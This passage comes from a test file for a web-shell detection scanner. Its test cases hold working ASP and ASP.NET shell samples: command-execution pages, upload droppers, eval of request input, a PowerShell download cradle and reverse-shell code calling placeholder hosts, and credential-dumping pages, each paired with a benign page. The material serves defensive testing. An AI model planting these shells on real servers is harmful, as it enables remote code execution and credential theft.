            "<%@ Page Language=\"C#\" %>\n<% string nbsp = \"\\u00a0\", amp = \"\\u0026\"; %>\n<script>var re = /[\\u0041-\\u005A]/; var t = \"\\u4e2d\\u6587\";</script>\n",
        ),
        case(
            "EXRAY_Upload_Saved_As_Script",
            "<%@ Page Language=\"C#\" %><%if (Request.Files.Count!=0) Request.Files[0].SaveAs(Server.MapPath(\"./help.aspx\"));%>\n",
            "<%@ Page Language=\"C#\" %><%if (Request.Files.Count!=0) Request.Files[0].SaveAs(Server.MapPath(\"~/avatars/\" + User.Identity.Name + \".png\"));%>\n<a href=\"profile.aspx\">back</a>\n",
        ),
        case(
            "EXRAY_Upload_Request_Named",
            "<%@ Page Language=\"C#\" %>\n<% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(\"./\") + Request[\"n\"]); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var f = Request.Files[0];\nif (System.IO.Path.GetExtension(f.FileName) == \".pdf\")\n f.SaveAs(Server.MapPath(\"~/uploads/\") + System.IO.Path.GetFileName(f.FileName)); %>\n",
        ),
        case(
            "EXRAY_JScript_Eval_Alias",
            "<script runat=\"server\" language=\"javascript\">\nvar input = String(Request.Form(\"z\"));\nvar table = {'run': eval};\ntable['run'](input);\n</script>\n",
            "<script runat=\"server\" language=\"javascript\">\nvar input = String(Request.Form(\"z\"));\nvar evaluation = { score: 3 };\nResponse.Write(Server.HTMLEncode(input) + evaluation.score);\n</script>\n",
        ),
        case(
            "EXRAY_RDP_Port_Registry_Read",
            "Function TermPort()\nSet sh = Server.CreateObject(\"WScript.Shell\")\nTermPort = sh.RegRead(\"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\\PortNumber\")\nEnd Function\nResponse.Write TermPort()\n",
            "<%\n' Remote desktop help page: the default RDP-Tcp PortNumber is 3389.\nSet sh = Server.CreateObject(\"WScript.Shell\")\nlang = sh.RegRead(\"HKCU\\Control Panel\\International\\LocaleName\")\nResponse.Write \"Connect to port 3389 (\" & lang & \")\"\n%>\n",
        ),
        case(
            "EXRAY_SQLOLEDB_Port_Probe",
            "Function Probe(host, list)\nOn Error Resume Next\nFor Each p In Split(list, \",\")\nSet c = Server.CreateObject(\"ADODB.Connection\")\nc.ConnectionTimeout = 1\nc.Open \"Provider=SQLOLEDB;Data Source=\" & host & \",\" & p & \";User ID=x;Password=x;\"\nIf Err.Number = -2147217843 Then Probe = Probe & p & \" open \"\nErr.Clear\nNext\nEnd Function\n",
            "<%\nOn Error Resume Next\nSet c = Server.CreateObject(\"ADODB.Connection\")\nc.ConnectionTimeout = 15\nc.Open \"Provider=SQLOLEDB;Data Source=\" & Application(\"dbhost\") & \";Initial Catalog=shop;Integrated Security=SSPI\"\nIf Err.Number = -2147217843 Then Response.Write \"The shop database refused the login.\"\n%>\n",
        ),
        case(
            "EXRAY_IIS_Metabase_Password_Read",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.DirectoryServices\" %>\n<% var w3 = new DirectoryEntry(\"IIS://localhost/W3SVC\");\nforeach (DirectoryEntry site in w3.Children) {\n  var root = site.Children.Find(\"root\", \"IIsWebVirtualDir\");\n  Response.Write(root.Properties[\"AnonymousUserName\"].Value + \":\" + root.Properties[\"AnonymousUserPass\"].Value + \"<br>\");\n} %>\n",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.DirectoryServices\" %>\n<% var root = new DirectoryEntry(\"IIS://localhost/W3SVC/\" + siteId + \"/root\");\nroot.Properties[\"AnonymousUserName\"].Value = account.Text;\nroot.Properties[\"AnonymousUserPass\"].Value = password.Text;\nroot.CommitChanges(); %>\n",
        ),
        case(
            "EXRAY_WebConfig_Handler_Hijack",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n  <handlers accessPolicy=\"Read, Script, Write\">\n   <add name=\"cfg\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" />\n  </handlers>\n  <security><requestFiltering><fileExtensions><remove fileExtension=\".config\" /></fileExtensions></requestFiltering></security>\n </system.webServer>\n</configuration>\n<!-- <% Response.Write(CreateObject(\"WScript.Shell\").Exec(Request(\"q\")).StdOut.ReadAll()) %> -->\n",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n  <handlers>\n   <add name=\"ExtensionlessUrl\" path=\"*.\" verb=\"GET,HEAD\" type=\"System.Web.Handlers.TransferRequestHandler\" preCondition=\"integratedMode\" />\n  </handlers>\n </system.webServer>\n <appSettings><add key=\"greeting\" value=\"&lt;%= hello %&gt;\" /></appSettings>\n</configuration>\n",
        ),
        case(
            "EXRAY_NET_Dynamic_PInvoke",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nstatic object Call(string lib, string fn, Type ret, object[] args, Type[] types) {\n  var ab = AppDomain.CurrentDomain.DefineDynamicAssembly(new AssemblyName(\"n\"), AssemblyBuilderAccess.Run);\n  var mb = ab.DefineDynamicModule(\"m\");\n  var m = mb.DefinePInvokeMethod(fn, lib, MethodAttributes.Public | MethodAttributes.Static, CallingConventions.Standard, ret, types, CallingConvention.Winapi, CharSet.Ansi);\n  mb.CreateGlobalFunctions();\n  return mb.GetMethod(fn).Invoke(null, args);\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Runtime.InteropServices\" %>\n<script runat=\"server\">\n[DllImport(\"kernel32.dll\")]\nstatic extern uint GetTickCount();\nprotected void Page_Load(object s, EventArgs e) { uptime.Text = (GetTickCount() / 1000).ToString(); }\n</script>\n",
        ),
        case(
            "EXRAY_NET_Page_Rewrites_Itself_And_Compiles",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.IO\" %>\n<%@ Import Namespace=\"System.Web.Compilation\" %>\n<%\nstring me = Request.PhysicalPath;\nstring keep = File.ReadAllText(me);\nFile.WriteAllText(me, Decode(Hidden));\nvar p = (Page)BuildManager.CreateInstanceFromVirtualPath(\"~\" + Request.FilePath, typeof(Page));\nFile.WriteAllText(me, keep);\np.ProcessRequest(HttpContext.Current);\n%>\n",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Web.Compilation\" %>\n<script runat=\"server\">\nprotected void Page_Init(object s, EventArgs e) {\n  var t = BuildManager.GetCompiledType(\"~/Controls/\" + Theme + \"/Header.ascx\");\n  File.AppendAllText(Server.MapPath(\"~/App_Data/render.log\"), t.FullName + Environment.NewLine);\n}\n</script>\n",
        ),
        case(
            "EXRAY_Page_Starts_Download_Cradle",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<%\nvar p = new Process();\np.StartInfo.FileName = \"powershell.exe\";\np.StartInfo.Arguments = \"-NoP -W Hidden -Exec Bypass -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')\";\np.Start();\n%>\n",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<script runat=\"server\">\nprotected void Export_Click(object s, EventArgs e) {\n  var psi = new ProcessStartInfo(Server.MapPath(\"~/bin/wkhtmltopdf.exe\"), \"--quiet report.html report.pdf\");\n  psi.UseShellExecute = false;\n  Process.Start(psi).WaitForExit();\n  // The help page explains: run IEX only from a trusted console, never DownloadString from a page.\n}\n</script>\n",
        ),
        case(
            "EXRAY_WMI_Process_Create",
            "<%\nc = Request.Form(\"c\")\nSet p = GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2:Win32_Process\")\nr = p.Create(\"cmd /c \" & c & \" > C:\\Windows\\Temp\\o.txt\", Null, Null, pid)\nResponse.Write pid\n%>\n",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Management\" %>\n<script runat=\"server\">\nprotected void Page_Load(object s, EventArgs e) {\n  var scope = new ManagementScope(@\"\\\\.\\root\\cimv2\");\n  var q = new ObjectQuery(\"SELECT Name, WorkingSetSize FROM Win32_Process\");\n  grid.DataSource = new ManagementObjectSearcher(scope, q).Get();\n  grid.DataBind();\n  var w = System.Xml.XmlWriter.Create(Response.Output);\n}\n</script>\n",
        ),
        case(
            "EXRAY_ASP_Object_From_Request",
            "<%\nSet o = Server.CreateObject(Request(\"o\"))\nResponse.Write o.Exec(Request(\"c\")).StdOut.ReadAll\n%>\n",
            "<%\nkind = Request(\"kind\")\nIf kind = \"xml\" Then Set o = Server.CreateObject(\"MSXML2.DOMDocument.6.0\") Else Set o = Server.CreateObject(\"Scripting.Dictionary\")\n%>\n",
        ),
        case(
            "EXRAY_NET_Script_Engine_Eval",
            "<%@ Page Language=\"C#\" Async=\"true\" %>\n<%@ Import Namespace=\"Microsoft.CodeAnalysis.CSharp.Scripting\" %>\n<script runat=\"server\">\nprotected async void Page_Load(object s, EventArgs e) {\n  var r = await CSharpScript.EvaluateAsync(Request.Form[\"q\"]);\n  Response.Write(r);\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n// Calculator page: parses the expression itself, no script engine.\nprotected void Calc_Click(object s, EventArgs e) {\n  var t = new System.Data.DataTable();\n  result.Text = t.Compute(expr.Text.Replace(\"x\", \"*\"), \"\").ToString();\n}\n</script>\n",
        ),
        case(
            "EXRAY_Eval_Request_Flow",
            "<script language=\"JScript\" runat=\"server\">\nfunction Page_Load() {\n  var t = Request[\"t\"];\n  for (var i = 0; i < 64; i++) { t = t.replace(\"~\", \"\"); }\n  run(t);\n}\nfunction run(x) { eval(x); }\n</script>\n",
            "<%@ Page Language=\"JScript\" %>\n<script runat=\"server\">\nfunction Page_Load() {\n  var rule = LoadRule(Request[\"id\"]);\n  var ok = eval(rule.expression);\n  status.Text = ok ? \"on\" : \"off\";\n}\n</script>\n",
        ),
        case(
            "EXRAY_Image_Polyglot_Server_Code",
            "GIF89a;\n<%@ Page Language=\"C#\" %>\n<% Response.Write(System.IO.File.ReadAllText(Request[\"f\"])); %>\n",
            "GIF89a\u{1}\u{0}\u{1}\u{0}\u{0}\u{0}\u{0};<!-- a GIF with an HTML comment: <% is just text in an image -->",
        ),
        case(
            "EXRAY_NET_Assembly_Load_Request_Path",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Look(object o, EventArgs e) {\n var asm = System.Reflection.Assembly.LoadFrom(txtDll.Text);\n foreach (Type t in asm.GetTypes()) lit.Text += t.FullName + \"<br/>\";\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var asm = System.Reflection.Assembly.LoadFrom(Server.MapPath(\"~/bin/Plugins.dll\"));\n lblVersion.Text = asm.GetName().Version.ToString();\n}\n</script>\n",
        ),
        case(
            "EXRAY_NET_Impersonate_Request_Logon",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"advapi32.dll\")] static extern int LogonUser(string u, string d, string p, int t, int v, ref IntPtr h);\nvoid Go(object o, EventArgs e) {\n IntPtr h = IntPtr.Zero;\n LogonUser(txtUser.Text, txtDomain.Text, txtPass.Text, 2, 0, ref h);\n using (new WindowsIdentity(h).Impersonate()) { foreach (var f in Directory.GetFiles(txtDir.Text)) Response.Write(f); }\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"advapi32.dll\")] static extern int LogonUser(string u, string d, string p, int t, int v, ref IntPtr h);\nvoid Go(object o, EventArgs e) {\n IntPtr h = IntPtr.Zero;\n LogonUser(ConfigurationManager.AppSettings[\"ReportUser\"], \"CORP\", ConfigurationManager.AppSettings[\"ReportPassword\"], 2, 0, ref h);\n using (new WindowsIdentity(h).Impersonate()) { lblShare.Text = File.ReadAllText(txtReport.Text); }\n}\n</script>\n",
        ),
        case(
            "EXRAY_File_Op_Request_Path",
            "<%@ Page Language=\"C#\" %>\n<% foreach (var f in System.IO.Directory.GetFiles(Request.QueryString[\"d\"])) Response.Write(f + \"<br>\"); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% foreach (var f in System.IO.Directory.GetFiles(Server.MapPath(\"~/gallery/\" + System.IO.Path.GetFileName(Request.QueryString[\"album\"])))) Response.Write(System.IO.Path.GetFileName(f) + \"<br>\"); %>\n",
        ),
        case(
            "EXRAY_File_Dropper_Flow",
            "<%\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1\nst.Open\nst.Write Request.BinaryRead(Request.TotalBytes)\nst.SaveToFile Server.MapPath(Request.QueryString(\"n\")), 2\nst.Close\n%>\n",
            "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile(Server.MapPath(\"data/book.txt\"), 8, True)\nf.WriteLine Server.HTMLEncode(Request.Form(\"name\")) & vbTab & Server.HTMLEncode(Request.Form(\"msg\"))\nf.Close\nResponse.Redirect \"book.asp\"\n%>\n",
        ),
        case(
            "EXRAY_Membership_Password_Dump",
            "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n For Each u As UserInfo In UserController.GetUsers(False, True, -1)\n  lbl.Text &= u.Username & \": \" & UserController.GetPassword(u, \"\") & \" (password)<br/>\"\n Next\nEnd Sub\n</script>\n",
            "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Remind(s As Object, e As EventArgs)\n Dim u As UserInfo = UserController.GetUserByName(0, txtUser.Text)\n Mail.Send(u.Email, \"Reminder\", UserController.GetPassword(u, txtAnswer.Text))\n lblInfo.Text = \"Your password was sent to your address.\"\n For Each r As String In u.Roles\n  lblRoles.Text &= r\n Next\nEnd Sub\n</script>\n",
        ),
    ]
}

/// The exemptions for applications' pages keep the shells of the same shape.
#[test]
fn application_exemptions_keep_shells() {
    let expect = |page: &str, rule: &str| {
        assert!(
            hits(page).contains(rule),
            "{rule}: {:?}\n{page}",
            hits(page)
        );
    };
    // a console on a connection string of any length that ends with the caller's server
    expect(
        "<%\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open \"Provider=SQLOLEDB.1;Persist Security Info=False;Password=\" & Request(\"p\") & \";User ID=sa;Initial Catalog=master;Data Source=\" & Request(\"h\")\nSet rs = conn.Execute(Request(\"q\"))\n%>\n",
        "EXRAY_SQL_Console_Request",
    );
    // a SELECT spliced with request data opens no connection
    let select = "<%\nSet rs = Server.CreateObject(\"ADODB.Recordset\")\nrs.Open \"SELECT * FROM servers WHERE server='\" & Request(\"s\")\nSet r2 = conn.Execute(Request(\"sp\") & \"_report\")\n%>\n";
    lacks(select, "EXRAY_SQL_Console_Request");
    // a console planted on the application's own connection
    expect(
        "<% Set c = Server.CreateObject(\"ADODB.Connection\"): c.Open Application(\"cs\"): Set r = c.Execute(Request(\"q\"))\nDo Until r.EOF: Response.Write r(0) & \"<br>\": r.MoveNext: Loop %>\n",
        "EXRAY_SQL_Query_From_Request",
    );
    // a one-line uploader in a page whose markup holds a URL before the MapPath
    expect(
        "<%@ Page Language=\"C#\" %><html xmlns=\"http://www.w3.org/1999/xhtml\"><% if (Request.Files.Count > 0) { var f = Request.Files[0]; f.SaveAs(Server.MapPath(\"~/\") + f.FileName); } %></html>\n",
        "EXRAY_Upload_Unchecked_Name",
    );
    // a port forward that pumps in a thread of its own, and one that copies stream to stream
    expect(
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var r = new System.Net.Sockets.TcpClient(\"198.51.100.7\", 600);\n var l = new System.Net.Sockets.TcpClient(\"127.0.0.1\", 3389);\n new System.Threading.Thread(() => { while (true) { int n = r.Client.Receive(a); l.Client.Send(a, n, 0); } }).Start();\n while (true) { int n = l.Client.Receive(b); r.Client.Send(b, n, 0); }\n}\n</script>\n",
        "EXRAY_Page_Port_Forward",
    );
    expect(
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var r = new System.Net.Sockets.TcpClient(); r.Connect(\"198.51.100.7\", 600);\n var l = new System.Net.Sockets.TcpClient(); l.Connect(\"127.0.0.1\", 3389);\n var x = r.GetStream().CopyToAsync(l.GetStream());\n l.GetStream().CopyTo(r.GetStream());\n}\n</script>\n",
        "EXRAY_Page_Port_Forward",
    );
}

/// A page saved as UTF-16 is read as the text it holds: every rule and data-flow check applies
/// to it as to the same page in UTF-8, with or without a byte-order mark, in either byte order.
#[test]
fn utf16_pages_are_read_as_text() {
    let shells = [
        "<%@ Page Language=\"Jscript\"%><% var k = \"z\"; eval(Request.Item[k]); %>",
        "<%\nSet o = Server.CreateObject(\"WScr\"&\"ipt.Shell\")\nResponse.Write o.Exec(\"cmd /c \" & Request(\"c\")).StdOut.ReadAll\n%>\n",
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var p = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + Request[\"c\"]);\n p.RedirectStandardOutput = true; p.UseShellExecute = false;\n Response.Write(System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd());\n}\n</script>\n",
    ];
    for shell in shells {
        let plain = hits(shell);
        assert!(!plain.is_empty(), "UTF-8 form trips nothing: {shell}");
        let le_bom = hits(&format!("UTF16:{shell}"));
        assert_eq!(le_bom, plain, "UTF-16LE with a mark: {shell}");
        let bare: Vec<u8> = shell.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let be: Vec<u8> = [0xFE, 0xFF]
            .into_iter()
            .chain(shell.encode_utf16().flat_map(u16::to_be_bytes))
            .collect();
        for bytes in [bare, be] {
            let mut s = rules().scanner();
            let ids: BTreeSet<String> = s
                .scan("x", &bytes)
                .unwrap()
                .into_iter()
                .map(|h| h.meta.id)
                .collect();
            assert_eq!(ids, plain, "UTF-16 without a mark or big-endian: {shell}");
        }
    }
    // a match found in the text points at the code units of the file it came from
    let page = "<%\nSet o = Server.CreateObject(\"WScript.Shell\")\nResponse.Write o.Exec(\"cmd /c \" & Request(\"c\")).StdOut.ReadAll\n%>\n";
    let bytes: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(page.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let mut s = rules().scanner();
    let found = s.scan("x", &bytes).unwrap();
    let mut checked = 0;
    for m in found.iter().flat_map(|h| &h.matches) {
        if !m
            .identifier
            .as_deref()
            .is_some_and(|i| i.ends_with("(UTF-16 read as text)"))
            || m.excerpt.contains('\\')
        {
            continue;
        }
        let span = &bytes[m.offset as usize..(m.offset + m.length) as usize];
        let units: Vec<u16> = span
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        assert_eq!(span.len() % 2, 0, "{m:?}");
        assert_eq!(String::from_utf16(&units).unwrap(), m.excerpt, "{m:?}");
        checked += 1;
    }
    assert!(checked > 0, "no match of the UTF-16 view: {found:?}");
    // an ASCII shell behind a stray UTF-16 mark is still read as the ASCII it is, split names
    // joined
    let stray = b"\xff\xfe<%\nSet o = Server.CreateObject(\"WScr\"&\"ipt.Shell\")\nResponse.Write o.Exec(\"cmd /c \" & Request(\"c\")).StdOut.ReadAll\n%>\n";
    let mut s = rules().scanner();
    let ids: BTreeSet<String> = s
        .scan("x", stray)
        .unwrap()
        .into_iter()
        .map(|h| h.meta.id)
        .collect();
    assert!(ids.contains("EXRAY_ASP_WScript_Shell_Exec"), "{ids:?}");
    // an application's login page saved as UTF-16: it runs its own parameterised query
    let login = "UTF16:<%\nIf Request.ServerVariables(\"REQUEST_METHOD\") = \"POST\" Then\n username = Trim(Request.Form(\"username\"))\n Set cmd = Server.CreateObject(\"ADODB.Command\")\n cmd.CommandText = \"SELECT id FROM users WHERE name = ?\"\n cmd.Parameters.Append cmd.CreateParameter(\"n\", 200, 1, 50, username)\n Set loginRS = cmd.Execute()\nEnd If\n%>\n<html><body><form method=\"post\"><input name=\"username\"></form></body></html>\n";
    assert!(hits(login).is_empty(), "{:?}", hits(login));
}

/// The OAB-settings rule needs the script inside the ExternalUrl/InternalUrl value, in the
/// one-setting-per-line layout; a CMS page naming the fields with a script elsewhere is not it.
#[test]
fn oab_settings_rule_needs_the_script_in_the_url_value() {
    let cms = "<%@ Page Language=\"C#\" %>\r\n<h2>Publishing</h2>\r\n<label>ExternalUrl</label> <input id=\"ExternalUrl\" runat=\"server\" />\r\nInternalUrl: <input id=\"InternalUrl\" runat=\"server\" />\r\nOfflineAddressBooks PollInterval RequireSSL\r\n<script type=\"text/javascript\">check();</script>\r\n";
    assert!(hits(cms).is_empty(), "{:?}", hits(cms));
    let shell = oab_dump("http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){/**/}</script>");
    let wide: Vec<u8> = shell.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut s = rules().scanner();
    let ids: Vec<String> = s
        .scan("x", &wide)
        .unwrap()
        .into_iter()
        .map(|h| h.meta.id)
        .collect();
    assert!(
        ids.contains(&"EXRAY_Exchange_OAB_Settings_Shell".to_string()),
        "{ids:?}"
    );
}

#[test]
fn every_rule_has_a_positive_and_a_negative_case() {
    let all: BTreeSet<String> = rules().rule_metas().iter().map(|m| m.id.clone()).collect();
    let covered: BTreeSet<String> = cases().iter().map(|c| c.rule.to_string()).collect();
    let missing: Vec<_> = all.difference(&covered).collect();
    assert!(missing.is_empty(), "rules without test cases: {missing:?}");
    let unknown: Vec<_> = covered.difference(&all).collect();
    assert!(
        unknown.is_empty(),
        "test cases for unknown rules: {unknown:?}"
    );
}

#[test]
fn positives_fire_their_rule() {
    let mut failed = Vec::new();
    for c in cases() {
        let h = hits(&c.pos);
        if !h.contains(c.rule) {
            failed.push(format!("{}: got {h:?}", c.rule));
        }
    }
    assert!(
        failed.is_empty(),
        "positives missed:\n{}",
        failed.join("\n")
    );
}

#[test]
fn negatives_fire_no_rule() {
    let mut failed = Vec::new();
    for c in cases() {
        let h = hits(&c.neg);
        if !h.is_empty() {
            failed.push(format!("negative of {}: {h:?}", c.rule));
        }
    }
    assert!(failed.is_empty(), "negatives fired:\n{}", failed.join("\n"));
}

#[test]
fn obfuscated_one_liner_variants() {
    // Hex escapes of the key and "unsafe" (JScript.NET).
    let hex = "<%@ Page Language=\"JScript\" %><% var v = Request[\"\\x70\\x77\"]; eval(v, \"\\x75\\x6e\\x73\\x61\\x66\\x65\"); %>";
    assert!(hits(hex).contains("EXRAY_JScript_Eval_Unsafe"));
    assert!(hits(hex).contains("EXRAY_JScript_String_Split_Eval"));
    // VBScript one-liner with extra whitespace and a session cache.
    let sess = "<% If Request(\"a\") <> \"\" Then Session(\"a\") = Request(\"a\") : Execute  Session(\"a\") %>";
    assert!(hits(sess).contains("EXRAY_Eval_Request_Direct"));
    // Reversed payload.
    let rev = "<% ExecuteGlobal StrReverse(Request(\"r\")) %>";
    assert!(hits(rev).contains("EXRAY_Eval_Decoded_Request"));
    // Input from a header instead of a parameter.
    let hdr = "<%@ Page Language=\"JScript\" %><% eval(Request.Headers[\"X-Token\"]); %>";
    assert!(hits(hdr).contains("EXRAY_Eval_Request_Direct"));
    // JScript (classic ASP) through a variable, statement ended by a semicolon.
    let var = "<%@ Language=JScript %>\n<% var c = Request.Form(\"c\"); eval(c); %>";
    assert!(hits(var).contains("EXRAY_VBS_Eval_Request_Variable"));
    // JScript.NET under its other names, script block with language before runat.
    let js = "<script language=\"javascript\" runat=\"server\">\nfunction Page_Load() { var k = Request.Form[\"k\"]; var o = \"unsa\" + \"fe\"; eval(k, o); }\n</script>";
    assert!(hits(js).contains("EXRAY_JScript_Eval_Unsafe"));
    let js2 = "<%@ Page Language=\"js\" %>\n<% var k = Request.Form[\"k\"]; eval(k, mode); %>";
    assert!(hits(js2).contains("EXRAY_JScript_Eval_Unsafe"));
    // Client-side JavaScript with a two-argument call to a function named eval is not server code.
    let client = "<html><script language=\"javascript\">\nfunction eval2() {}\nvar r = eval(a, b);\n</script></html>";
    assert!(!hits(client).contains("EXRAY_JScript_Eval_Unsafe"));
    // ASP.NET writer: path and content from text boxes.
    let boxes = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Save(object o, EventArgs e) {\n var w = new System.IO.StreamWriter(txtFile.Text, true);\n w.Write(txtBody.Text);\n w.Close();\n}\n</script>";
    assert!(hits(boxes).contains("EXRAY_File_Writer_Request"));
    // The same through a FileInfo made from the path box.
    let info = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Save(object o, EventArgs e) {\n var fi = new System.IO.FileInfo(txtPath.Text);\n var w = fi.CreateText();\n w.Write(txtBody.Text);\n w.Close();\n}\n</script>";
    assert!(hits(info).contains("EXRAY_File_Writer_Request"));
    // An upload control saved into the application's root under the sender's name.
    let root = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Send(object o, EventArgs e) {\n if (up.HasFile) up.SaveAs(AppDomain.CurrentDomain.BaseDirectory + up.FileName);\n}\n</script>";
    assert!(hits(root).contains("EXRAY_Upload_Beside_Page"));
    // Request data run through a pass-through function, and run from a dictionary.
    let wrap = "<%\nFunction keep(v)\n keep = v\nEnd Function\nk = Join(Array(\"p\",\"w\"), \"\")\nx = Request(k)\nExecute(keep(x))\n%>";
    assert!(hits(wrap).contains("EXRAY_VBS_Eval_Request_Variable"));
    let item = "<%\nSet bag = Server.CreateObject(\"Scripting.Dictionary\")\nbag.Add \"c\", Request.Form(\"c\")\nExecute(bag.Item(\"c\"))\n%>";
    assert!(hits(item).contains("EXRAY_VBS_Eval_Request_Variable"));
    let plain = "<%\nFunction keep(v)\n keep = v\nEnd Function\nx = Request(\"q\")\nResponse.Write Server.HTMLEncode(keep(x))\n%>";
    assert!(!hits(plain).contains("EXRAY_VBS_Eval_Request_Variable"));
    // An in-memory loader whose type and method names are spelled a character at a time.
    let spelled = "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) {\n var b = c.Request.BinaryRead(c.Request.ContentLength);\n var t = Type.GetType(new string(new char[] {'S','y','s','t','e','m','.','R','e','f','l','e','c','t','i','o','n','.','A','s','s','e','m','b','l','y'}));\n var m = t.GetMethod(new string(new char[] {'L','o','a','d'}), new Type[] { typeof(byte[]) });\n var a = m.Invoke(null, new object[] { b });\n} public bool IsReusable { get { return false; } } }";
    assert!(hits(spelled).contains("EXRAY_NET_Reflective_Loader_Request"));
    // A reverse shell that builds its Process by hand.
    let rev = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var c = new System.Net.Sockets.TcpClient(\"198.51.100.7\", 443);\n var p = new Process();\n p.StartInfo.FileName = \"cmd.exe\";\n p.StartInfo.RedirectStandardInput = true;\n p.Start();\n}\n</script>";
    assert!(hits(rev).contains("EXRAY_NET_Reverse_Shell"));
    // A stylesheet from a text box, script enabled for it.
    let xslt = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Run(object o, EventArgs e) {\n var x = new XmlDocument(); x.LoadXml(Encoding.UTF8.GetString(Convert.FromBase64String(box.Text)));\n var s = new XsltSettings(false, true);\n var t = new XslCompiledTransform(); t.Load(x, s, new XmlUrlResolver());\n}\n</script>";
    assert!(hits(xslt).contains("EXRAY_XSLT_Script_Exec"));
    // An upload saved into a folder typed into a text box.
    let folder = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Up(object o, EventArgs e) { if (f.HasFile) f.SaveAs(dirBox.Text + \"\\\\\" + System.IO.Path.GetFileName(f.FileName)); }\n</script>";
    assert!(hits(folder).contains("EXRAY_Upload_Request_Named"));
    // A database console whose server, database and SQL come from text boxes through variables.
    let boxes_sql = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Dump(object o, EventArgs e) {\n string host = txtHost.Text;\n string sql = txtSql.Text;\n string cs = \"server=\" + host + \";uid=sa\";\n var c = new SqlConnection(cs);\n var a = new SqlDataAdapter(new SqlCommand(sql, c));\n a.Fill(table);\n}\n</script>";
    assert!(hits(boxes_sql).contains("EXRAY_SQL_Console_Request_Variables"));
    // Script-encoded VBScript in a UTF-16 page.
    let enc = "UTF16:<%@ LANGUAGE = VBScript.Encode %>\r\n<%#@~^CAAAAA==v+.s6E^3uHgAAAA==^#~@%>";
    assert!(hits(enc).contains("EXRAY_ASP_Script_Encoded"));
    // Names split into joined string literals are read in the joined view, and say so.
    let split = "<%response.write CreateObject(\"WScr\"&\"ipt.Shell\").Exec(Request.QueryString(\"c\"&\"md\")).StdOut.ReadAll()%>";
    assert!(hits(split).contains("EXRAY_ASP_WScript_Shell_Exec"));
    let mut sc = rules().scanner();
    let h = sc.scan("split.asp", split.as_bytes()).unwrap();
    let m = h
        .iter()
        .find(|h| h.meta.id == "EXRAY_ASP_WScript_Shell_Exec")
        .unwrap();
    let joined = m
        .matches
        .iter()
        .find(|x| {
            x.identifier
                .as_deref()
                .is_some_and(|i| i.ends_with("(split string literals joined)"))
        })
        .expect("a match from the joined view");
    let at = joined.offset as usize;
    assert!(
        at < split.len() && at + joined.length as usize <= split.len(),
        "{joined:?}"
    );
    assert!(
        split[at..].starts_with("WScr")
            || split[at..].starts_with('.')
            || split[at..].starts_with('E'),
        "{joined:?}"
    );
    // A join in ordinary text changes nothing.
    assert!(hits("<p>\"Tom\" & \"Jerry\"</p>").is_empty());
    // A handler that writes a server-side include into a page it creates.
